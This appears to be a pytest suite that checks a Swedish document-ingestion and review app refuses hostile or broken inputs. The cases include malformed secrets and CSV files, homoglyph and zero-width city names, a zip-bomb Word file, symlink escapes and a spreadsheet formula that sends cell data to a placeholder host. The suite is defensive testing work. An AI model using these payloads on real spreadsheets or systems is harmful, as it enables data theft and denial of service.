"""Fail closed, lose nothing: hostile or hand-broken inputs are refused, named, and change nothing.

Each test here is a case from issue 15's hostile-input battery that used to open changes to
everyone, drop data silently, or crash; each now fails closed with a message that names the
problem.
"""

from __future__ import annotations

import csv
import io
import subprocess
import tomllib
import unicodedata
import zipfile
from collections.abc import Iterator
from pathlib import Path

import duckdb
import polars as pl
import pypdf
import pytest
import streamlit as st
from conftest import corpus_snapshot, first_queued_link
from streamlit import config
from streamlit.testing.v1 import AppTest
from streamlit.testing.v1.errors import AppTestError
from test_ingest import PDF

from etl.errors import InputError
from etl.ingest import MAX_FILE_BYTES, ingest, ingest_bytes
from etl.load import MAX_UNPACKED_BYTES, extract_text
from etl.paths import ROOT, Paths
from etl.pipeline import build
from etl.read.export import csv_text, export
from etl.read.query import Atlas, ItemFilter

APP_TIMEOUT = 30  # seconds: the first run imports the data stack


@pytest.fixture
def secrets_files(tmp_path: Path) -> Iterator[tuple[Path, Path]]:
    """A home and a project secrets file in a temporary folder, read by Streamlit in that order."""
    home, project = tmp_path / "home-secrets.toml", tmp_path / "project-secrets.toml"
    saved = config.get_option("secrets.files")
    config.set_option("secrets.files", [str(home), str(project)])
    st.secrets._reset()
    yield home, project
    config.set_option("secrets.files", saved)
    st.secrets._reset()


def review_page(concept_id: str) -> AppTest:
    at = AppTest.from_file(str(ROOT / "app.py"), default_timeout=APP_TIMEOUT)
    # Named, so that only the access settings can keep the decision buttons disabled.
    at.query_params.update({"concepts": concept_id, "reviewer": "Anna"})
    at.run()
    at.switch_page("pages/review.py").run()
    assert not at.exception, [e.message for e in at.exception]
    return at


@pytest.mark.parametrize(
    ("home", "project", "named"),
    [
        (None, "[access]\npassword = x\n", "Error parsing secrets file at"),
        (None, "[acess]\npassword = 'x'\n", "menade du [access]?"),  # in the page's language
        (None, "[access]\nPassword = 'x'\n", "Password"),
        ("[access\n", "[access]\npassword = 'x'\n", "Error parsing secrets file at"),
        (None, "[access]\npassword = 'l\xf6sen'\n".encode("cp1252"), "är inte UTF-8-text"),
    ],
)
def test_broken_secrets_lock_changes_and_say_why(
    fresh_built: Paths,
    secrets_files: tuple[Path, Path],
    home: str | None,
    project: str | bytes,
    named: str,
) -> None:
    home_file, project_file = secrets_files
    if home is not None:
        home_file.write_text(home, encoding="utf-8")
    if isinstance(project, bytes):
        project_file.write_bytes(project)
    else:
        project_file.write_text(project, encoding="utf-8")
    item_id, concept_id = first_queued_link(fresh_built)
    at = review_page(concept_id)
    problem = at.sidebar.error[0].value
    assert problem.startswith("Ändringar är spärrade tills åtkomstinställningarna är rättade:")
    assert named in problem.replace("\\", "")
    assert at.button(key=f"accept|{item_id}|{concept_id}").disabled
    assert not fresh_built.review.exists()


def test_no_secrets_file_leaves_changes_open(
    fresh_built: Paths, secrets_files: tuple[Path, Path]
) -> None:
    item_id, concept_id = first_queued_link(fresh_built)
    at = review_page(concept_id)
    assert not at.sidebar.error
    assert not at.button(key=f"accept|{item_id}|{concept_id}").disabled


REVIEW_HEADER = "item_id,city,concept_id,decision,reviewer,decided_at,note\n"


@pytest.mark.parametrize(
    ("review", "message"),
    [
        (
            REVIEW_HEADER + 'a:1,,eccar.01,accept,anna,2025-01-01,"ok\nb:2,,eccar.02,reject,,,\n',
            'review.csv line 2: a quote (") opens a field that is never closed',
        ),
        (
            (REVIEW_HEADER + "a:1,,eccar.01,accept,Åsa,,\n").encode("cp1252"),
            "review.csv line 2: the file is not UTF-8 text (byte 0xc5 cannot be read)",
        ),
        (b"\x89PNG\r\n\x1a\n\x00\x00", "review.csv line 3: the file contains binary data"),
    ],
)
def test_a_broken_review_file_stops_the_build_and_keeps_the_database(
    fresh_built: Paths, review: str | bytes, message: str
) -> None:
    if isinstance(review, bytes):
        fresh_built.review.write_bytes(review)
    else:
        fresh_built.review.write_text(review, encoding="utf-8")
    before = corpus_snapshot(fresh_built)
    with pytest.raises(InputError) as error:
        build(fresh_built, progress=lambda _: None)
    assert str(error.value).startswith(message)
    assert corpus_snapshot(fresh_built) == before


def test_ingest_refuses_while_the_manifest_has_a_stray_quote(fresh_built: Paths) -> None:
    text = fresh_built.manifest.read_text(encoding="utf-8")
    fresh_built.manifest.write_text(text.replace(",Malmö,", ',"Malmö,', 1), encoding="utf-8")
    before = corpus_snapshot(fresh_built)
    with pytest.raises(InputError, match="manifest.csv line 5: a quote"):
        ingest_bytes(
            fresh_built,
            "ny.txt",
            "Ärendet\n\nPlanen ska stärka arbetet mot rasism.\n".encode(),
            city="Malmö",
            organ="Kulturnämnden",
            doc_kind="plan",
            progress=lambda _: None,
        )
    assert corpus_snapshot(fresh_built) == before


def test_uploads_are_capped_at_the_size_ingest_accepts() -> None:
    with (ROOT / ".streamlit" / "config.toml").open("rb") as handle:
        server = tomllib.load(handle)["server"]
    assert server["maxUploadSize"] * 2**20 == MAX_FILE_BYTES


def test_no_file_is_taken_while_changes_are_locked(fresh_built: Paths) -> None:
    at = AppTest.from_file(str(ROOT / "app.py"), default_timeout=APP_TIMEOUT)
    at.secrets["access"] = {"password": "hemligt"}
    at.run()
    at.switch_page("pages/sources.py").run()
    assert at.file_uploader[0].proto.disabled
    with pytest.raises(AppTestError, match="Cannot update a disabled"):
        at.file_uploader[0].set_value(("plan.txt", b"Plan\n", "text/plain"))
    at.text_input(key="password").set_value("hemligt").run()
    assert not at.file_uploader[0].proto.disabled


def test_make_run_serves_this_machine_only() -> None:
    dry_run = subprocess.run(
        ["make", "-n", "run"], cwd=ROOT, capture_output=True, text=True, check=True
    ).stdout
    assert "-m streamlit run app.py --server.address localhost" in dry_run
    with (ROOT / ".streamlit" / "config.toml").open("rb") as handle:
        assert tomllib.load(handle)["server"]["address"] == "localhost"


PLAN = "Ärendet\n\nPlanen ska stärka arbetet mot rasism och öka kunskapen i skolan.\n".encode()


def add(paths: Paths, city: str, new_city: bool = True, **fields: str) -> object:
    description = {"organ": "Kulturnämnden", "doc_kind": "plan", **fields}
    return ingest_bytes(
        paths,
        "plan.txt",
        PLAN,
        city=city,
        new_city=new_city,
        progress=lambda _: None,
        **description,
    )


@pytest.mark.parametrize(
    ("city", "message"),
    [
        (
            "malmo",
            "city 'malmo' differs from the known city 'Malmö' only in capitals or accents; "
            "write 'Malmö' (a second spelling would split the city in two)",
        ),
        (
            "MALMÖ",
            "city 'MALMÖ' differs from the known city 'Malmö' only in capitals or accents; "
            "write 'Malmö' (a second spelling would split the city in two)",
        ),
        (
            "\u041calmö",
            "city: the word 'Мalmö' mixes letters of the Cyrillic and Latin alphabets, which "
            "look alike but differ; type it again",
        ),
        (
            "Mal\u200bmö",
            "city contains an invisible character (U+200B ZERO WIDTH SPACE); type it again",
        ),
    ],
)
def test_a_near_duplicate_city_is_refused_with_the_existing_one(
    fresh_data: Paths, city: str, message: str
) -> None:
    before = corpus_snapshot(fresh_data)
    with pytest.raises(InputError) as error:
        add(fresh_data, city)
    assert str(error.value) == message
    assert corpus_snapshot(fresh_data) == before


def test_invisible_characters_are_refused_in_every_field(fresh_data: Paths) -> None:
    with pytest.raises(InputError) as error:
        add(fresh_data, "Malmö", new_city=False, organ="Kultur\u00adnämnden", title="\ufeffPlan")
    assert str(error.value).splitlines() == [
        "organ contains an invisible character (U+00AD SOFT HYPHEN); type it again",
        "title contains an invisible character (U+FEFF ZERO WIDTH NO-BREAK SPACE); type it again",
    ]


def test_a_decomposed_city_name_is_the_known_city(fresh_built: Paths) -> None:
    decomposed = unicodedata.normalize("NFD", "Malmö")
    assert decomposed != "Malmö"
    cities = fresh_built.cities.read_bytes()
    result = add(fresh_built, decomposed, organ=unicodedata.normalize("NFD", "Kulturnämnden"))
    assert not result.city_added  # type: ignore[attr-defined]
    manifest = fresh_built.manifest.read_text(encoding="utf-8")
    assert "plan.txt,Malmö,Kulturnämnden,plan," in manifest
    assert fresh_built.cities.read_bytes() == cities


def test_upload_form_refuses_a_second_spelling_of_a_city(fresh_built: Paths) -> None:
    at = AppTest.from_file(str(ROOT / "app.py"), default_timeout=APP_TIMEOUT)
    at.run()
    at.switch_page("pages/sources.py").run()
    at.file_uploader[0].set_value(("plan.txt", PLAN, "text/plain"))
    texts = {box.label: box for box in at.text_input}
    texts["Stad"].set_value("MALMÖ")
    texts["Organ"].set_value("Kulturnämnden")
    at.checkbox[0].check()
    next(b for b in at.button if b.form_id == "upload").click().run()
    # In the user's language, with the known spelling to use instead.
    assert "skiljer sig från den kända staden Malmö bara i versaler" in at.error[0].value
    assert not (fresh_built.raw / "plan.txt").exists()


def test_search_finds_the_same_passages_however_the_letters_are_composed(
    built_data: Paths,
) -> None:
    with duckdb.connect(str(built_data.db), read_only=True) as con:
        atlas = Atlas(con)
        composed = atlas.items(ItemFilter(search="kunskapshöjande"))["item_id"].to_list()
        decomposed = atlas.items(ItemFilter(search=unicodedata.normalize("NFD", "kunskapshöjande")))
    assert composed
    assert decomposed["item_id"].to_list() == composed


W_NS = 'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"'


def word_package(body: str, styles: str = "") -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as package:
        package.writestr(
            "word/document.xml", f"<w:document {W_NS}><w:body>{body}</w:body></w:document>"
        )
        if styles:
            package.writestr("word/styles.xml", f"<w:styles {W_NS}>{styles}</w:styles>")
    return out.getvalue()


def paragraph(text: str, style: str = "") -> str:
    properties = f'<w:pPr><w:pStyle w:val="{style}"/></w:pPr>' if style else ""
    return f"<w:p>{properties}<w:r><w:t>{text}</w:t></w:r></w:p>"


def test_a_word_file_with_too_much_xml_is_refused_before_it_is_read_whole() -> None:
    filler = paragraph("Nämnden ska stärka arbetet mot rasism i skolan. " * 4)
    body = filler * (MAX_UNPACKED_BYTES // len(filler.encode()) + 1)
    data = word_package(body)
    assert len(data) < MAX_FILE_BYTES // 20  # small on disk: ZIP packs repeated XML well
    with pytest.raises(InputError) as error:
        extract_text("rapport.docx", data)
    assert str(error.value) == (
        "rapport.docx: the Word file unpacks to more than 32 MB; it is not an ordinary document "
        "— save its text as .txt and add that"
    )


def test_word_text_is_read_in_order_with_nothing_left_out() -> None:
    styles = (
        '<w:style w:styleId="Liststycke"><w:name w:val="List Paragraph"/></w:style>'
        '<w:style w:styleId="Rubrik1"><w:name w:val="heading 1"/></w:style>'
    )
    body = (
        paragraph("Handlingsplan mot rasism", "Rubrik1")
        + "<w:p><w:r><w:t>Mål</w:t><w:tab/><w:t>2025</w:t><w:br/><w:t>uppföljning</w:t></w:r>"
        + "<w:del><w:r><w:delText>struken text</w:delText></w:r></w:del>"
        + "<w:ins><w:r><w:t> och utvärdering</w:t></w:r></w:ins></w:p>"
        + paragraph("utbildning för personalen", "Liststycke")
        + "<w:p><w:pPr><w:numPr><w:numId w:val='1'/></w:numPr></w:pPr>"
        + "<w:r><w:t>årlig mätning</w:t></w:r></w:p>"
        + "<w:sdt><w:sdtContent>"
        + paragraph("Text i en innehållskontroll")
        + "</w:sdtContent></w:sdt>"
        + "<w:tbl><w:tr><w:tc>"
        + paragraph("Insats")
        + "</w:tc><w:tc>"
        + paragraph("Ansvar")
        + "</w:tc></w:tr><w:tr><w:tc>"
        + paragraph("Dialog")
        + "<w:tbl><w:tr><w:tc>"
        + paragraph("inre tabell")
        + "</w:tc></w:tr></w:tbl></w:tc><w:tc>"
        + paragraph("Kulturförvaltningen")
        + "</w:tc></w:tr></w:tbl>"
    )
    assert extract_text("plan.docx", word_package(body, styles)).split("\n\n") == [
        "Handlingsplan mot rasism",
        "Mål\t2025\nuppföljning och utvärdering",
        "- utbildning för personalen\n- årlig mätning",
        "Text i en innehållskontroll",
        "Insats | Ansvar\nDialog\ninre tabell | Kulturförvaltningen",
    ]


def aes_encrypted(pdf: bytes, user_password: str) -> bytes:
    writer = pypdf.PdfWriter(clone_from=pypdf.PdfReader(io.BytesIO(pdf)))
    writer.encrypt(user_password, owner_password="ägare", algorithm="AES-256")
    out = io.BytesIO()
    writer.write(out)
    return out.getvalue()


def test_an_aes_pdf_that_opens_without_a_password_is_read() -> None:
    assert extract_text("skyddad.pdf", aes_encrypted(PDF, "")) == extract_text("öppen.pdf", PDF)


def test_an_aes_pdf_that_needs_a_password_says_so() -> None:
    with pytest.raises(InputError) as error:
        extract_text("låst.pdf", aes_encrypted(PDF, "hemligt"))
    assert str(error.value) == (
        "låst.pdf: the PDF is protected with a password; save or print it to a new PDF without "
        "a password and add that"
    )


@pytest.mark.parametrize(
    "data",
    [bytes(range(0xA0, 0xB4)), b"\xff\xfe" + bytes(range(0x41, 0x61)), b"\xc4\xd6\xe5\xe4\xf6PK"],
    ids=["latin-1 bytes", "utf-16 bytes", "short binary"],
)
def test_small_binary_files_are_not_taken_for_text(data: bytes) -> None:
    with pytest.raises(InputError, match="this is not a text file"):
        extract_text("liten.txt", data)


def test_legacy_swedish_text_is_still_read() -> None:
    text = "Nämnden ska öka kunskapen om rasism och främja lika rättigheter i skolan."
    assert extract_text("gammal.txt", text.encode("cp1252")) == text


def test_csv_exports_keep_formulas_as_text(built_data: Paths, tmp_path: Path) -> None:
    frame = pl.DataFrame(
        {"text": ['=HYPERLINK("http://example.invalid/?"&A1;"klicka")', "+1", "vanlig"]}
    )
    assert csv_text(frame).splitlines() == [
        "text",
        '"\'=HYPERLINK(""http://example.invalid/?""&A1;""klicka"")"',
        "'+1",
        "vanlig",
    ]
    (written,) = [p for p in export(built_data.db, "csv", tmp_path) if p.name == "items.csv"]
    cells = [row for row in csv.reader(io.StringIO(written.read_text(encoding="utf-8")))]
    assert not any(cell[:1] in ("=", "+", "-", "@") for row in cells for cell in row[1:2])


def test_upload_reports_the_passages_of_the_new_database(fresh_built: Paths) -> None:
    at = AppTest.from_file(str(ROOT / "app.py"), default_timeout=APP_TIMEOUT)
    at.run()
    at.switch_page("pages/sources.py").run()  # the page has the old database open
    at.file_uploader[0].set_value(("plan.txt", PLAN, "text/plain"))
    texts = {box.label: box for box in at.text_input}
    texts["Stad"].set_value("Malmö")
    texts["Organ"].set_value("Kulturnämnden")
    next(b for b in at.button if b.form_id == "upload").click().run()
    with duckdb.connect(str(fresh_built.db), read_only=True) as con:
        (count,) = con.execute("SELECT item_count FROM documents WHERE doc_id = 'plan'").fetchone()
    assert count > 0
    assert at.success[0].value.startswith(f"plan\\.txt är tillagt: {count} passager hämtades (")


def test_a_symbolic_link_is_refused_on_the_command_line_and_in_data_raw(
    fresh_data: Paths, tmp_path: Path
) -> None:
    outside = tmp_path / "utanför.txt"
    outside.write_bytes(PLAN)
    link = tmp_path / "länk.txt"
    link.symlink_to(outside)
    before = corpus_snapshot(fresh_data)
    with pytest.raises(InputError, match=f"^{link}: this is a symbolic link to {outside}; give"):
        ingest(fresh_data, link, city="Malmö", organ="Kulturnämnden", doc_kind="plan")
    (fresh_data.raw / "länk.txt").symlink_to(outside)
    with pytest.raises(InputError) as error:
        build(fresh_data, progress=lambda _: None)
    assert str(error.value) == (
        "raw/länk.txt is a symbolic link, not a file; put the file itself in raw/ "
        "(or remove the link)"
    )
    (fresh_data.raw / "länk.txt").unlink()
    assert corpus_snapshot(fresh_data) == before


@pytest.mark.parametrize("when", ["２０２４", "0000", "0202-01-01", "2024-02-30"])
def test_dates_that_cannot_be_are_refused_by_ingest_and_build(fresh_data: Paths, when: str) -> None:
    with pytest.raises(InputError, match="is not a date written YYYY, YYYY-MM or YYYY-MM-DD"):
        add(fresh_data, "Malmö", new_city=False, date=when)
    lines = fresh_data.manifest.read_text(encoding="utf-8").splitlines(keepends=True)
    row = next(csv.reader([lines[1]]))
    row[5] = when
    out = io.StringIO()
    csv.writer(out, lineterminator="\n").writerow(row)
    fresh_data.manifest.write_text(lines[0] + out.getvalue() + "".join(lines[2:]), encoding="utf-8")
    with pytest.raises(InputError, match=f"date '{when}' is not YYYY, YYYY-MM or YYYY-MM-DD"):
        build(fresh_data, progress=lambda _: None)


def test_a_killed_build_leaves_no_write_ahead_log_behind(fresh_built: Paths) -> None:
    dead = 2**22 + 1  # above the kernel's default pid_max: no process has it
    stale = fresh_built.db.with_name(f".{fresh_built.db.name}.{dead}.tmp.wal")
    stale.write_bytes(b"WAL of a build killed halfway")
    build(fresh_built, progress=lambda _: None)
    assert not stale.exists()
